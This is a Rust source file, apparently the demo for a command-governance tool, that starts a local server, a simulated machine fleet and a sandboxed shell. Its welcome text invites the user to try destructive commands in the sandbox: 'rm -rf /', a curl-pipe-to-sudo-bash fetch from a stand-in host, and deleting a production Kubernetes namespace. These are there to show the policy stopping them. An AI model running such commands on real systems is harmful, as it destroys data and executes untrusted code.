//! The demo: server, console, a living fleet, a real sensor and a governed shell, in one command,
//! on a machine that cannot be harmed.

mod people;
mod sandbox;
mod summary;
mod telephone;
mod typist;

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use anyhow::{Context, Result, bail};
use serde::Deserialize;
use tokio::process::{Child, Command};

use crate::arguments::Demo;
use people::People;
use summary::Summary;
use telephone::Telephone;

/// Seconds without contact after which the demo's server calls a machine silent.
const SILENT_AFTER: u64 = 15;

/// Everything the demo started, ended when it is dropped.
struct Stage {
    folder: tempfile::TempDir,
    server: Child,
    urls: Urls,
}

/// What the server says of itself once it runs.
#[derive(Deserialize)]
struct Urls {
    console_url: String,
    machine_url: String,
}

/// Set the stage, let the fleet live, give the person (or the script) a shell, sum up.
pub(crate) async fn run(arguments: Demo) -> Result<()> {
    let program = std::env::current_exe().context("this program's own path cannot be read")?;
    sandbox::possible()?;
    let password = people::password()?;
    let mut stage = Stage::set(&program, arguments.port, &password).await?;
    let people = People::arrive(&stage.urls.console_url, &password).await?;
    let telephone = Telephone::answer().await?;
    people.call(&telephone).await?;
    people.publish(include_str!("policy.yaml")).await?;

    let fleet_token = people
        .fleet_token(arguments.machines.saturating_add(1))
        .await?;
    let (stop, stopped) = tokio::sync::watch::channel(false);
    let fleet = tokio::spawn(cmdai_sim::run(
        cmdai_sim::Options {
            machines: arguments.machines,
            server: stage.urls.machine_url.clone(),
            token: fleet_token,
            policy: include_str!("policy.yaml").to_owned(),
            ..cmdai_sim::Options::default()
        },
        stopped,
    ));

    introduce(&stage, &password, &arguments);
    let shell = sandbox::Shell {
        script: stage.folder.path().join("sandbox.sh"),
        base: stage.folder.path().join("machine"),
        programs: program.parent().map(Path::to_path_buf).unwrap_or_default(),
        server: stage.urls.machine_url.clone(),
        token: people.machine_token().await?,
    };
    let begun = std::time::Instant::now();
    let session = if arguments.headless {
        shell.scripted(&people).await?
    } else {
        shell.interactive().await?
    };
    if arguments.headless {
        tokio::time::sleep(arguments.duration.saturating_sub(begun.elapsed())).await;
    }

    anstream::eprintln!("stopping the fleet …");
    let _ = stop.send(true);
    let fleet = fleet.await.context("the fleet fell over")??;
    people.wait_until_stored().await?;
    let export = stage.folder.path().join("export.jsonl");
    crate::evidence::save(people.client(), "export", &[], &export).await?;
    let summary = Summary::of(&people, &fleet, &session, &telephone, &export).await?;
    stage.end().await?;
    if arguments.json {
        anstream::println!("{}", serde_json::to_string_pretty(&summary)?);
    } else {
        anstream::print!("{summary}");
    }
    let wrong = summary.wrong(arguments.headless);
    if !wrong.is_empty() {
        bail!(
            "the demo did not do what it should:\n  {}",
            wrong.join("\n  ")
        );
    }
    Ok(())
}

fn introduce(stage: &Stage, password: &str, arguments: &Demo) {
    anstream::eprintln!(
        "\n  console   {}\n  sign in   admin / {password}\n  fleet     {} simulated machines, this one as demo-laptop\n",
        stage.urls.console_url,
        arguments.machines
    );
    if !arguments.headless {
        anstream::eprintln!(
            "  You get a governed bash now, on a throw-away copy of this machine. Try:\n\n    rm -rf /\n    curl https://x.example/i.sh | sudo bash\n    kubectl delete ns production      (approve it in the console, then type it again)\n\n  `exit` ends the demo.\n"
        );
    }
}

impl Stage {
    /// Starts the server in a folder of its own.
    async fn set(program: &Path, port: u16, password: &str) -> Result<Self> {
        let folder = tempfile::Builder::new()
            .prefix("cmdai-demo-")
            .tempdir()
            .context("no room for the demo's files")?;
        let data = folder.path().join("server");
        let secret = folder.path().join("password");
        std::fs::write(&secret, password)?;
        std::fs::write(folder.path().join("sandbox.sh"), include_str!("sandbox.sh"))?;
        std::fs::create_dir(folder.path().join("machine"))?;
        let server = Command::new(program)
            .args([
                "server",
                "--organisation",
                "acme-corp",
                "--machines",
                "127.0.0.1:0",
            ])
            .args(["--listen", &format!("127.0.0.1:{port}")])
            .args(["--silent-after", &SILENT_AFTER.to_string()])
            .arg("--data")
            .arg(&data)
            .arg("--admin-password-file")
            .arg(&secret)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .kill_on_drop(true)
            .spawn()
            .context("the server cannot be started")?;
        let mut stage = Self {
            folder,
            server,
            urls: Urls {
                console_url: String::new(),
                machine_url: String::new(),
            },
        };
        stage.urls = stage.wait(&data.join("running.json")).await?;
        Ok(stage)
    }

    async fn wait(&mut self, note: &PathBuf) -> Result<Urls> {
        for _ in 0..600 {
            if let Some(urls) = std::fs::read(note)
                .ok()
                .and_then(|bytes| serde_json::from_slice(&bytes).ok())
            {
                return Ok(urls);
            }
            if let Some(status) = self.server.try_wait()? {
                bail!("the server ended at once ({status}); its message stands above");
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        bail!("the server did not start within 30 s")
    }

    /// Stops the server in good order.
    async fn end(&mut self) -> Result<()> {
        if let Some(pid) = self
            .server
            .id()
            .and_then(|pid| rustix::process::Pid::from_raw(i32::try_from(pid).ok()?))
        {
            rustix::process::kill_process(pid, rustix::process::Signal::TERM)?;
        }
        let ended = tokio::time::timeout(Duration::from_secs(15), self.server.wait()).await;
        if ended.is_err() {
            self.server.kill().await?;
        }
        Ok(())
    }
}
